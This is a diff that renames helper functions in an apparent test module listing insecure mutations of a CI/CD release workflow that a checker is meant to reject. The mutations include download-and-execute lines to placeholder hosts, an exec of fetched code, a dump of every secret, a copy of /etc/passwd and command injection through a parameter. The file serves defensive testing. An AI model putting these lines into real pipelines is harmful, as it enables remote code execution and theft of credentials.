@@ -20,262 +20,314 @@ SECRET = '{EDGE_SECRET: "${{ secrets.EDGE_SECRET }}"}'
 Change = Callable[[str], str]
 
 
-def put(old: str, new: str, times: int = -1) -> Change:
+def replace_text(old: str, new: str, times: int = -1) -> Change:
     """Replace a text, which must be present."""
 
-    def change(text: str) -> str:
+    def change_text(text: str) -> str:
         assert old in text, old
         return text.replace(old, new, times)
 
-    return change
+    return change_text
 
 
-def in_job(job: str, change: Change) -> Change:
+def change_job(job: str, change: Change) -> Change:
     """Change one job's text alone."""
 
-    def changed(text: str) -> str:
+    def change_text(text: str) -> str:
         start = text.index(f"\n  {job}:\n") + 1
         following = [text.find(f"\n  {name}:\n", start) for name in ("audit", "build", "attest", "deploy")]
         end = min((at for at in following if at > 0), default=len(text))
         return text[:start] + change(text[start:end]) + text[end:]
 
-    return changed
+    return change_text
 
 
 ATTACKS: dict[str, Change] = {
-    "a tag in place of a commit": put(CHECKOUT, "actions/checkout@v6", 1),
-    "a branch in place of a commit": put(CHECKOUT, "actions/checkout@main", 1),
-    "a short commit": put(CHECKOUT, "actions/checkout@de0fac2e4500 # v6.0.2", 1),
-    "a version with a commit's length": put(CHECKOUT, f"actions/checkout@{'v6' * 20} # v6.0.2", 1),
-    "a commit without its version": put(CHECKOUT, CHECKOUT.partition(" #")[0], 1),
-    "two commits of one action": put(CHECKOUT, f"actions/checkout@{'0' * 40} # v6.0.2", 1),
-    "an action in a flow mapping": put(
+    "a tag in place of a commit": replace_text(CHECKOUT, "actions/checkout@v6", 1),
+    "a branch in place of a commit": replace_text(CHECKOUT, "actions/checkout@main", 1),
+    "a short commit": replace_text(CHECKOUT, "actions/checkout@de0fac2e4500 # v6.0.2", 1),
+    "a version with a commit's length": replace_text(CHECKOUT, f"actions/checkout@{'v6' * 20} # v6.0.2", 1),
+    "a commit without its version": replace_text(CHECKOUT, CHECKOUT.partition(" #")[0], 1),
+    "two commits of one action": replace_text(CHECKOUT, f"actions/checkout@{'0' * 40} # v6.0.2", 1),
+    "an action in a flow mapping": replace_text(
         f"- uses: {CHECKOUT}\n        with: {{persist-credentials: false}}",
         "- {uses: actions/checkout@v6, with: {persist-credentials: false}}",
         1,
     ),
-    "an action of the checkout itself": put(CHECKOUT, "./.github/actions/setup", 1),
-    "an image as an action": put(CHECKOUT, "docker://alpine:latest", 1),
-    "an identity for the build": in_job(
-        "build", put("timeout-minutes: 30", "timeout-minutes: 30\n    permissions: {id-token: write, contents: read}")
+    "an action of the checkout itself": replace_text(CHECKOUT, "./.github/actions/setup", 1),
+    "an image as an action": replace_text(CHECKOUT, "docker://alpine:latest", 1),
+    "an identity for the build": change_job(
+        "build",
+        replace_text("timeout-minutes: 30", "timeout-minutes: 30\n    permissions: {id-token: write, contents: read}"),
     ),
-    "an identity for the audit": in_job(
-        "audit", put("timeout-minutes: 15", "timeout-minutes: 15\n    permissions: {id-token: write}")
+    "an identity for the audit": change_job(
+        "audit", replace_text("timeout-minutes: 15", "timeout-minutes: 15\n    permissions: {id-token: write}")
     ),
-    "an identity for every job": put(
+    "an identity for every job": replace_text(
         "permissions:\n  contents: read", "permissions:\n  contents: read\n  id-token: write"
     ),
-    "every right for every job": put("permissions:\n  contents: read", "permissions: write-all"),
-    "no word about rights": put("permissions:\n  contents: read\n", ""),
-    "more rights for the deployment": in_job(
-        "deploy", put("id-token: write", "id-token: write\n      contents: write")
+    "every right for every job": replace_text("permissions:\n  contents: read", "permissions: write-all"),
+    "no word about rights": replace_text("permissions:\n  contents: read\n", ""),
+    "more rights for the deployment": change_job(
+        "deploy", replace_text("id-token: write", "id-token: write\n      contents: write")
     ),
-    "more rights for the attestation": in_job(
-        "attest", put("attestations: write", "attestations: write\n      packages: write")
+    "more rights for the attestation": change_job(
+        "attest", replace_text("attestations: write", "attestations: write\n      packages: write")
     ),
-    "the deployment's environment for the build": in_job(
-        "build", put("timeout-minutes: 30", "timeout-minutes: 30\n    environment: prod-hue")
+    "the deployment's environment for the build": change_job(
+        "build", replace_text("timeout-minutes: 30", "timeout-minutes: 30\n    environment: prod-hue")
     ),
-    "the deployment's environment for the attestation": in_job(
-        "attest", put("timeout-minutes: 15", "timeout-minutes: 15\n    environment: prod-hue")
+    "the deployment's environment for the attestation": change_job(
+        "attest", replace_text("timeout-minutes: 15", "timeout-minutes: 15\n    environment: prod-hue")
     ),
-    "a deployment without its environment": put(
+    "a deployment without its environment": replace_text(
         "    environment: ${{ inputs.stage || 'staging' }}-${{ inputs.province || vars.STAGING_PROVINCE }}\n", ""
     ),
-    "a secret for the whole deployment": in_job(
-        "deploy", put("PYTHONPATH: lib", "PYTHONPATH: lib\n      EDGE_SECRET: ${{ secrets.EDGE_SECRET }}")
+    "a secret for the whole deployment": change_job(
+        "deploy", replace_text("PYTHONPATH: lib", "PYTHONPATH: lib\n      EDGE_SECRET: ${{ secrets.EDGE_SECRET }}")
     ),
-    "a secret for the workflow": put("jobs:", "env: {EDGE_SECRET: '${{ secrets.EDGE_SECRET }}'}\njobs:"),
-    "a secret in the build": in_job("build", put("env:\n", "env:\n      KEY: ${{ secrets.EDGE_SECRET }}\n")),
-    "a secret in a step of the build": in_job(
-        "build", put('- run: make release STAGE="$STAGE"', f'- run: make release STAGE="$STAGE"\n        env: {SECRET}')
+    "a secret for the workflow": replace_text("jobs:", "env: {EDGE_SECRET: '${{ secrets.EDGE_SECRET }}'}\njobs:"),
+    "a secret in the build": change_job(
+        "build", replace_text("env:\n", "env:\n      KEY: ${{ secrets.EDGE_SECRET }}\n")
     ),
-    "a secret inside a script": put(SECRET, "{}", 1),
-    "every secret at once": put(SECRET, '{ALL: "${{ toJSON(secrets) }}"}', 1),
-    "a secret for an action": in_job(
-        "deploy", put("role-session-name:", "external-id: ${{ secrets.EDGE_SECRET }}\n          role-session-name:")
+    "a secret in a step of the build": change_job(
+        "build",
+        replace_text(
+            '- run: make release STAGE="$STAGE"', f'- run: make release STAGE="$STAGE"\n        env: {SECRET}'
+        ),
     ),
-    "the pipeline's own token in the build": in_job(
-        "build", put("STAGE: $", "GH_TOKEN: ${{ github.token }}\n      STAGE: $")
-    ),
-    "secrets handed on": in_job("build", put("timeout-minutes: 30", "timeout-minutes: 30\n    secrets: inherit")),
-    "an expression inside a script": in_job("build", put('STAGE="$STAGE"', "STAGE=${{ inputs.stage }}")),
-    "a checkout in the job with the role": in_job(
+    "a secret inside a script": replace_text(SECRET, "{}", 1),
+    "every secret at once": replace_text(SECRET, '{ALL: "${{ toJSON(secrets) }}"}', 1),
+    "a secret for an action": change_job(
         "deploy",
-        put(
+        replace_text("role-session-name:", "external-id: ${{ secrets.EDGE_SECRET }}\n          role-session-name:"),
+    ),
+    "the pipeline's own token in the build": change_job(
+        "build", replace_text("STAGE: $", "GH_TOKEN: ${{ github.token }}\n      STAGE: $")
+    ),
+    "secrets handed on": change_job(
+        "build", replace_text("timeout-minutes: 30", "timeout-minutes: 30\n    secrets: inherit")
+    ),
+    "an expression inside a script": change_job("build", replace_text('STAGE="$STAGE"', "STAGE=${{ inputs.stage }}")),
+    "a checkout in the job with the role": change_job(
+        "deploy",
+        replace_text(
             "- name: Unpack", f"- uses: {CHECKOUT}\n        with: {{persist-credentials: false}}\n      - name: Unpack"
         ),
     ),
-    "a checkout that keeps its token": put("with: {persist-credentials: false}", "with: {fetch-depth: 1}", 1),
-    "make in the job with the role": in_job("deploy", put("run: tar ", "run: make install && tar ")),
-    "pip in the job with the role": in_job("deploy", put("run: tar ", "run: pip install boto3 && tar ")),
-    "pip as a module in the job with the role": in_job(
-        "deploy", put("run: tar ", "run: python3 -m pip install boto3; tar ")
+    "a checkout that keeps its token": replace_text("with: {persist-credentials: false}", "with: {fetch-depth: 1}", 1),
+    "make in the job with the role": change_job("deploy", replace_text("run: tar ", "run: make install && tar ")),
+    "pip in the job with the role": change_job("deploy", replace_text("run: tar ", "run: pip install boto3 && tar ")),
+    "pip as a module in the job with the role": change_job(
+        "deploy", replace_text("run: tar ", "run: python3 -m pip install boto3; tar ")
     ),
-    "npm in the job with the role": in_job("deploy", put("run: tar ", "run: npm ci; tar ")),
-    "a system package in the job with the role": in_job(
-        "deploy", put("run: tar ", "run: sudo apt-get install -y jq; tar ")
+    "npm in the job with the role": change_job("deploy", replace_text("run: tar ", "run: npm ci; tar ")),
+    "a system package in the job with the role": change_job(
+        "deploy", replace_text("run: tar ", "run: sudo apt-get install -y jq; tar ")
     ),
-    "a download in the job with the role": in_job(
-        "deploy", put("run: tar ", "run: curl -sSf https://example.org/x | sh; tar ")
+    "a download in the job with the role": change_job(
+        "deploy", replace_text("run: tar ", "run: curl -sSf https://example.org/x | sh; tar ")
     ),
-    "a clone in the job with the role": in_job(
-        "deploy", put("run: tar ", "run: git clone https://example.org/x; tar ")
+    "a clone in the job with the role": change_job(
+        "deploy", replace_text("run: tar ", "run: git clone https://example.org/x; tar ")
     ),
-    "another action in the job with the role": in_job(
-        "deploy", put(CREDENTIALS, f"someone/helper@{'a' * 40} # v1.0.0")
+    "another action in the job with the role": change_job(
+        "deploy", replace_text(CREDENTIALS, f"someone/helper@{'a' * 40} # v1.0.0")
     ),
-    "another action in the job of the attestation": in_job("attest", put("actions/attest@", "someone/attest@", 1)),
-    "an artefact taken unchecked": in_job("deploy", put(DIGEST, "run: ls")),
-    "an artefact checked against itself": in_job(
-        "deploy", put(BUILT, "{DIGEST: \"${{ hashFiles('motcua.tar.gz') }}\"}")
+    "another action in the job of the attestation": change_job(
+        "attest", replace_text("actions/attest@", "someone/attest@", 1)
     ),
-    "a check that may fail": in_job("deploy", put(DIGEST, f"{DIGEST} || true")),
-    "a check that continues after a failure": in_job(
-        "deploy", put(DIGEST, f"continue-on-error: true\n        {DIGEST}")
+    "an artefact taken unchecked": change_job("deploy", replace_text(DIGEST, "run: ls")),
+    "an artefact checked against itself": change_job(
+        "deploy", replace_text(BUILT, "{DIGEST: \"${{ hashFiles('motcua.tar.gz') }}\"}")
     ),
-    "a check that is left out at times": in_job(
-        "deploy", put(DIGEST, f"if: inputs.stage == 'staging'\n        {DIGEST}")
+    "a check that may fail": change_job("deploy", replace_text(DIGEST, f"{DIGEST} || true")),
+    "a check that continues after a failure": change_job(
+        "deploy", replace_text(DIGEST, f"continue-on-error: true\n        {DIGEST}")
     ),
-    "a check after unpacking": in_job(
+    "a check that is left out at times": change_job(
+        "deploy", replace_text(DIGEST, f"if: inputs.stage == 'staging'\n        {DIGEST}")
+    ),
+    "a check after unpacking": change_job(
         "deploy",
-        put(
+        replace_text(
             "- name: The artefact is what was built",
             "- run: tar -xzf motcua.tar.gz\n      - name: The artefact is what was built",
         ),
     ),
-    "an attestation of what was not checked": in_job("attest", put(DIGEST, "run: ls")),
-    "a build that says no digest": in_job("build", put("digest: ${{", "other: ${{")),
-    "a deployment that waits for no test": put(
+    "an attestation of what was not checked": change_job("attest", replace_text(DIGEST, "run: ls")),
+    "a build that says no digest": change_job("build", replace_text("digest: ${{", "other: ${{")),
+    "a deployment that waits for no test": replace_text(
         "needs: [verify, audit, build, attest]", "needs: [audit, build, attest]"
     ),
-    "a deployment that waits for no audit": put(
+    "a deployment that waits for no audit": replace_text(
         "needs: [verify, audit, build, attest]", "needs: [verify, build, attest]"
     ),
-    "a deployment without provenance": put("needs: [verify, audit, build, attest]", "needs: [verify, audit, build]"),
-    "a cache that others fill": in_job(
-        "build", put("python-version-file: .python-version", "python-version-file: .python-version, cache: pip")
+    "a deployment without provenance": replace_text(
+        "needs: [verify, audit, build, attest]", "needs: [verify, audit, build]"
     ),
-    "a service next to what is deployed": in_job(
-        "build", put("timeout-minutes: 30", "timeout-minutes: 30\n    services: {db: {image: postgres}}")
+    "a cache that others fill": change_job(
+        "build",
+        replace_text("python-version-file: .python-version", "python-version-file: .python-version, cache: pip"),
     ),
-    "a machine of somebody's own": put("runs-on: ubuntu-24.04", "runs-on: self-hosted", 1),
-    "an image that moves": put("runs-on: ubuntu-24.04", "runs-on: ubuntu-latest", 1),
-    "a container": put("runs-on: ubuntu-24.04", "runs-on: ubuntu-24.04\n    container: node:20", 1),
-    "no time limit": put("    timeout-minutes: 60\n", ""),
-    "started by a stranger's change": put("on:\n", "on:\n  pull_request_target:\n"),
-    "started by another run": put("on:\n", "on:\n  workflow_run: {workflows: [ci]}\n"),
-    "a secret in capitals": in_job("build", put("env:\n", "env:\n      KEY: ${{ SECRETS.EDGE_SECRET }}\n")),
-    "a secret behind braces": in_job(
-        "build", put("env:\n", "env:\n      KEY: \"${{ format('{0}', secrets.EDGE_SECRET) }}\"\n")
+    "a service next to what is deployed": change_job(
+        "build", replace_text("timeout-minutes: 30", "timeout-minutes: 30\n    services: {db: {image: postgres}}")
     ),
-    "a secret behind two braces": in_job(
-        "build", put("env:\n", "env:\n      KEY: \"${{ format('}}{0}', secrets.EDGE_SECRET) }}\"\n")
+    "a machine of somebody's own": replace_text("runs-on: ubuntu-24.04", "runs-on: self-hosted", 1),
+    "an image that moves": replace_text("runs-on: ubuntu-24.04", "runs-on: ubuntu-latest", 1),
+    "a container": replace_text("runs-on: ubuntu-24.04", "runs-on: ubuntu-24.04\n    container: node:20", 1),
+    "no time limit": replace_text("    timeout-minutes: 60\n", ""),
+    "started by a stranger's change": replace_text("on:\n", "on:\n  pull_request_target:\n"),
+    "started by another run": replace_text("on:\n", "on:\n  workflow_run: {workflows: [ci]}\n"),
+    "a secret in capitals": change_job(
+        "build", replace_text("env:\n", "env:\n      KEY: ${{ SECRETS.EDGE_SECRET }}\n")
     ),
-    "a secret over two lines": in_job(
-        "build", put("env:\n", "env:\n      KEY: >-\n        ${{ inputs.stage &&\n        secrets.EDGE_SECRET }}\n")
+    "a secret behind braces": change_job(
+        "build", replace_text("env:\n", "env:\n      KEY: \"${{ format('{0}', secrets.EDGE_SECRET) }}\"\n")
     ),
-    "all that is known of the run": in_job("build", put("env:\n", "env:\n      KEY: ${{ toJSON(github) }}\n")),
-    "all of it, joined": in_job("build", put("env:\n", "env:\n      KEY: \"${{ join(github.*, ',') }}\"\n")),
-    "the run's token by another spelling": in_job("build", put("env:\n", "env:\n      KEY: ${{ GitHub . Token }}\n")),
-    "the run's token among the secrets of the deployment": put("secrets.EDGE_SECRET", "secrets.GITHUB_TOKEN", 1),
-    "a deployment whatever failed": in_job(
-        "deploy", put("timeout-minutes: 60", "timeout-minutes: 60\n    if: always()")
+    "a secret behind two braces": change_job(
+        "build", replace_text("env:\n", "env:\n      KEY: \"${{ format('}}{0}', secrets.EDGE_SECRET) }}\"\n")
     ),
-    "a step of the deployment whatever failed": in_job(
-        "deploy", put("- name: Main stack", "- name: Main stack\n        if: always()")
+    "a secret over two lines": change_job(
+        "build",
+        replace_text("env:\n", "env:\n      KEY: >-\n        ${{ inputs.stage &&\n        secrets.EDGE_SECRET }}\n"),
     ),
-    "tests that may fail": in_job(
-        "verify", put("timeout-minutes: 45", "timeout-minutes: 45\n    continue-on-error: true")
+    "all that is known of the run": change_job(
+        "build", replace_text("env:\n", "env:\n      KEY: ${{ toJSON(github) }}\n")
     ),
-    "a step of the tests that may fail": in_job(
-        "verify", put("- run: make check", "- continue-on-error: true\n        run: make check")
+    "all of it, joined": change_job(
+        "build", replace_text("env:\n", "env:\n      KEY: \"${{ join(github.*, ',') }}\"\n")
     ),
-    "tests that are left out": in_job("verify", put("timeout-minutes: 45", "timeout-minutes: 45\n    if: false")),
-    "tests that test nothing": in_job("verify", put("make check lint-infra test", "true")),
-    "tests whose failure is swallowed": in_job("verify", put("lint-infra test", "lint-infra test || true")),
-    "an audit that forgives": in_job("audit", put("make audit RELEASE=1", "make audit")),
-    "another shell": in_job(
-        "deploy", put("- name: Unpack", "- name: Unpack\n        shell: bash -c 'curl https://example.org | sh' {0}")
+    "the run's token by another spelling": change_job(
+        "build", replace_text("env:\n", "env:\n      KEY: ${{ GitHub . Token }}\n")
     ),
-    "another shell for all": put("jobs:", "defaults: {run: {shell: 'sh {0}'}}\njobs:"),
-    "another shell for the deployment": in_job(
-        "deploy", put("timeout-minutes: 60", "timeout-minutes: 60\n    defaults: {run: {shell: 'sh {0}'}}")
+    "the run's token among the secrets of the deployment": replace_text(
+        "secrets.EDGE_SECRET", "secrets.GITHUB_TOKEN", 1
     ),
-    "a check that a word swallows": in_job("deploy", put(DIGEST, f"{DIGEST} ||true")),
-    "a check that a colon swallows": in_job(
-        "deploy", put(DIGEST, DIGEST.replace("run: ", "run: |\n          ") + " || :")
+    "a deployment whatever failed": change_job(
+        "deploy", replace_text("timeout-minutes: 60", "timeout-minutes: 60\n    if: always()")
     ),
-    "a check in the background": in_job("deploy", put(DIGEST, f"{DIGEST} &")),
-    "a check of a missing file": in_job("deploy", put(DIGEST, f"{DIGEST} --ignore-missing")),
-    "a check of another file": in_job("deploy", put('$DIGEST  motcua.tar.gz"', '$DIGEST  sbom.cdx.json"')),
-    "a check before another artefact is taken": in_job(
+    "a step of the deployment whatever failed": change_job(
+        "deploy", replace_text("- name: Main stack", "- name: Main stack\n        if: always()")
+    ),
+    "tests that may fail": change_job(
+        "verify", replace_text("timeout-minutes: 45", "timeout-minutes: 45\n    continue-on-error: true")
+    ),
+    "a step of the tests that may fail": change_job(
+        "verify", replace_text("- run: make check", "- continue-on-error: true\n        run: make check")
+    ),
+    "tests that are left out": change_job(
+        "verify", replace_text("timeout-minutes: 45", "timeout-minutes: 45\n    if: false")
+    ),
+    "tests that test nothing": change_job("verify", replace_text("make check lint-infra test", "true")),
+    "tests whose failure is swallowed": change_job(
+        "verify", replace_text("lint-infra test", "lint-infra test || true")
+    ),
+    "an audit that forgives": change_job("audit", replace_text("make audit RELEASE=1", "make audit")),
+    "another shell": change_job(
         "deploy",
-        put(
+        replace_text("- name: Unpack", "- name: Unpack\n        shell: bash -c 'curl https://example.org | sh' {0}"),
+    ),
+    "another shell for all": replace_text("jobs:", "defaults: {run: {shell: 'sh {0}'}}\njobs:"),
+    "another shell for the deployment": change_job(
+        "deploy", replace_text("timeout-minutes: 60", "timeout-minutes: 60\n    defaults: {run: {shell: 'sh {0}'}}")
+    ),
+    "a check that a word swallows": change_job("deploy", replace_text(DIGEST, f"{DIGEST} ||true")),
+    "a check that a colon swallows": change_job(
+        "deploy", replace_text(DIGEST, DIGEST.replace("run: ", "run: |\n          ") + " || :")
+    ),
+    "a check in the background": change_job("deploy", replace_text(DIGEST, f"{DIGEST} &")),
+    "a check of a missing file": change_job("deploy", replace_text(DIGEST, f"{DIGEST} --ignore-missing")),
+    "a check of another file": change_job("deploy", replace_text('$DIGEST  motcua.tar.gz"', '$DIGEST  sbom.cdx.json"')),
+    "a check before another artefact is taken": change_job(
+        "deploy",
+        replace_text(
             "- name: Unpack",
             "- uses: actions/download-artifact@37930b1c2abaa49bbe596cd826c3c89aef350131 # v7.0.0\n"
             "        with: {name: release}\n      - name: Unpack",
         ),
     ),
-    "an artefact of another run": in_job("deploy", put("with: {name: release}", "with: {name: release, run-id: '1'}")),
-    "a program typed into the job with the role": in_job(
+    "an artefact of another run": change_job(
+        "deploy", replace_text("with: {name: release}", "with: {name: release, run-id: '1'}")
+    ),
+    "a program typed into the job with the role": change_job(
         "deploy",
-        put("run: tar ", "run: python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://x\").read())'; tar "),
+        replace_text(
+            "run: tar ", "run: python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://x\").read())'; tar "
+        ),
     ),
-    "a program of the artefact's data": in_job("deploy", put("run: tar ", "run: bash package/x.sh; tar ")),
-    "another module of the artefact": in_job("deploy", put("infra.deploy_web", "infra.local.run")),
-    "a command inside a parameter": in_job("deploy", put('"SiteOrigin=$SITE_ORIGIN"', '"SiteOrigin=$(id)"')),
-    "a command behind the deployment": in_job("deploy", put("--package package", "--package package; id;")),
-    "libraries from elsewhere": in_job("deploy", put("PYTHONPATH: lib", "PYTHONPATH: elsewhere")),
-    "a file that the shell reads first": in_job("deploy", put("env:\n", "env:\n      BASH_ENV: x\n", 1)),
-    "a library before all others": in_job("deploy", put("env:\n", "env:\n      LD_PRELOAD: x\n", 1)),
-    "a key from a variable": in_job("deploy", put("env:\n", "env:\n      AWS_ACCESS_KEY_ID: ${{ vars.KEY }}\n", 1)),
-    "another registry for the build": in_job("build", put("env:\n", "env:\n      PIP_INDEX_URL: https://x.org\n")),
-    "another registry for the pages": in_job(
-        "build", put("env:\n", "env:\n      npm_config_registry: https://x.org\n")
+    "a program of the artefact's data": change_job("deploy", replace_text("run: tar ", "run: bash package/x.sh; tar ")),
+    "another module of the artefact": change_job("deploy", replace_text("infra.deploy_web", "infra.local.run")),
+    "a command inside a parameter": change_job(
+        "deploy", replace_text('"SiteOrigin=$SITE_ORIGIN"', '"SiteOrigin=$(id)"')
     ),
-    "a registry by an action": in_job(
-        "build", put('{node-version: "22"}', '{node-version: "22", registry-url: "https://x"}')
+    "a command behind the deployment": change_job(
+        "deploy", replace_text("--package package", "--package package; id;")
     ),
-    "a cache by an action of its own": in_job(
-        "build", put("- run: make release", f"- uses: actions/cache@{'a' * 40} # v5.0.0\n      - run: make release")
+    "libraries from elsewhere": change_job("deploy", replace_text("PYTHONPATH: lib", "PYTHONPATH: elsewhere")),
+    "a file that the shell reads first": change_job("deploy", replace_text("env:\n", "env:\n      BASH_ENV: x\n", 1)),
+    "a library before all others": change_job("deploy", replace_text("env:\n", "env:\n      LD_PRELOAD: x\n", 1)),
+    "a key from a variable": change_job(
+        "deploy", replace_text("env:\n", "env:\n      AWS_ACCESS_KEY_ID: ${{ vars.KEY }}\n", 1)
     ),
-    "something more in the build": in_job(
-        "build", put("- id: release", "- run: cp /etc/passwd build/release/\n      - id: release")
+    "another registry for the build": change_job(
+        "build", replace_text("env:\n", "env:\n      PIP_INDEX_URL: https://x.org\n")
     ),
-    "a digest that somebody types": in_job("build", put("${{ steps.release.outputs.digest }}", "${{ inputs.stage }}")),
-    "a role that somebody types": in_job("deploy", put("${{ vars.DEPLOY_ROLE_ARN }}", "${{ inputs.province }}")),
-    "an attestation of every file": in_job("attest", put("subject-path: motcua.tar.gz", "subject-path: '*'")),
-    "an action in another spelling": put(
+    "another registry for the pages": change_job(
+        "build", replace_text("env:\n", "env:\n      npm_config_registry: https://x.org\n")
+    ),
+    "a registry by an action": change_job(
+        "build", replace_text('{node-version: "22"}', '{node-version: "22", registry-url: "https://x"}')
+    ),
+    "a cache by an action of its own": change_job(
+        "build",
+        replace_text("- run: make release", f"- uses: actions/cache@{'a' * 40} # v5.0.0\n      - run: make release"),
+    ),
+    "something more in the build": change_job(
+        "build", replace_text("- id: release", "- run: cp /etc/passwd build/release/\n      - id: release")
+    ),
+    "a digest that somebody types": change_job(
+        "build", replace_text("${{ steps.release.outputs.digest }}", "${{ inputs.stage }}")
+    ),
+    "a role that somebody types": change_job(
+        "deploy", replace_text("${{ vars.DEPLOY_ROLE_ARN }}", "${{ inputs.province }}")
+    ),
+    "an attestation of every file": change_job(
+        "attest", replace_text("subject-path: motcua.tar.gz", "subject-path: '*'")
+    ),
+    "an action in another spelling": replace_text(
         f"{CHECKOUT}\n        with: {{persist-credentials: false}}",
         CHECKOUT.replace("actions/checkout", "Actions/Checkout"),
         1,
     ),
-    "an action of somebody in the build": in_job("build", put(CHECKOUT, f"someone/checkout@{'a' * 40} # v6.0.2")),
-    "a checkout of another repository": in_job(
-        "build", put("with: {persist-credentials: false}", "with: {persist-credentials: false, repository: someone/x}")
+    "an action of somebody in the build": change_job(
+        "build", replace_text(CHECKOUT, f"someone/checkout@{'a' * 40} # v6.0.2")
     ),
-    "a job beside with an identity": put(
+    "a checkout of another repository": change_job(
+        "build",
+        replace_text("with: {persist-credentials: false}", "with: {persist-credentials: false, repository: someone/x}"),
+    ),
+    "a job beside with an identity": replace_text(
         "  audit:\n",
         "  ship:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    permissions: {id-token: write}\n"
         "    steps: [{run: id}]\n  audit:\n",
     ),
-    "a job beside without one": put(
+    "a job beside without one": replace_text(
         "  audit:\n", "  ship:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    steps: [{run: id}]\n  audit:\n"
     ),
-    "a matrix of machines": in_job(
-        "build", put("timeout-minutes: 30", "timeout-minutes: 30\n    strategy: {matrix: {a: [1]}}")
+    "a matrix of machines": change_job(
+        "build", replace_text("timeout-minutes: 30", "timeout-minutes: 30\n    strategy: {matrix: {a: [1]}}")
     ),
-    "a time limit of a week": put("timeout-minutes: 60", "timeout-minutes: 10080"),
-    "a time limit that is true": put("timeout-minutes: 60", "timeout-minutes: true"),
-    "started by a star": put("on:\n", "on:\n  watch: {types: [started]}\n"),
-    "started by a review": put("on:\n", "on:\n  pull_request_review:\n"),
-    "started by a page of the wiki": put("on:\n", "on:\n  gollum:\n"),
-    "started by a call from elsewhere": put("on:\n", "on:\n  repository_dispatch:\n"),
-    "started by every branch": put('tags: ["v*"]', 'branches: ["**"]'),
-    "started by every push": put('  push:\n    tags: ["v*"]\n', "  push:\n"),
-    "started twice over": put("on:\n", '"on": [issue_comment]\non:\n'),
-    "a workflow of others": put(
+    "a time limit of a week": replace_text("timeout-minutes: 60", "timeout-minutes: 10080"),
+    "a time limit that is true": replace_text("timeout-minutes: 60", "timeout-minutes: true"),
+    "started by a star": replace_text("on:\n", "on:\n  watch: {types: [started]}\n"),
+    "started by a review": replace_text("on:\n", "on:\n  pull_request_review:\n"),
+    "started by a page of the wiki": replace_text("on:\n", "on:\n  gollum:\n"),
+    "started by a call from elsewhere": replace_text("on:\n", "on:\n  repository_dispatch:\n"),
+    "started by every branch": replace_text('tags: ["v*"]', 'branches: ["**"]'),
+    "started by every push": replace_text('  push:\n    tags: ["v*"]\n', "  push:\n"),
+    "started twice over": replace_text("on:\n", '"on": [issue_comment]\non:\n'),
+    "a workflow of others": replace_text(
         "  audit:\n", f"  other:\n    uses: someone/flows/.github/workflows/x.yml@{'a' * 40} # v1.0.0\n  audit:\n"
     ),
 }
